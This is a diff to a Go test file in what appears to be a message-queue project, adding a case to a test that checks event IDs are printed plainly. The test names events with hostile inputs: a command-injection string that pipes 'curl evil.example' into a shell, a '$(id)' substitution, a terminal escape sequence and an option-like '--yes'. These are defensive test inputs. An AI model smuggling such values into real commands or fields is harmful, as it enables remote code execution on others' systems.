@@ -11,7 +11,6 @@ import (
 	"testing"
 
 	"github.com/watershipmq/watership/internal/rabbit/rabbittest"
-
 	"github.com/watershipmq/watership/schemas"
 )
 
@@ -236,10 +235,11 @@ func TestDevelopmentPrintsPlainIDs(t *testing.T) {
 	}
 	a.keep(t,
 		a.event(1, schemas.Handled, named("a;curl evil.example|sh")), a.event(2, schemas.Handled, named("$(id)")),
-		a.event(3, schemas.Handled, named("\x1b]0;gone\x07")), a.event(4, schemas.Handled, named("--yes")), a.event(5, schemas.Handled, named("order-5")),
+		a.event(3, schemas.Handled, named("\x1b]0;gone\x07")), a.event(4, schemas.Handled, named("--yes")), a.event(5, schemas.Handled, named("a:b")), // which a query takes for a field
+		a.event(6, schemas.Handled, named("order-6")),
 	)
 	id, err := oneOf(t.Context(), a, is("event.action", "handled"), schemas.Cursor{})
-	if err != nil || id != "order-5" {
+	if err != nil || id != "order-6" {
 		t.Errorf("got %q, %v", id, err)
 	}
 }
